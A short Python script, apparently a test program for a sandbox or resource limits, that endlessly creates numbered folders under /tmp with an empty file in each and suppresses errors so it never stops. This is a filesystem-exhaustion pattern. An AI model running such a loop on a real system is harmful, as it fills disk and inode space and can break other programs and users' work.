"""Makes empty files and folders without end.

tests: stdio
"""

import contextlib
import itertools
import os

for number in itertools.count():
    with contextlib.suppress(OSError):
        os.mkdir(f"/tmp/{number}")
        open(f"/tmp/{number}/empty", "wb").close()
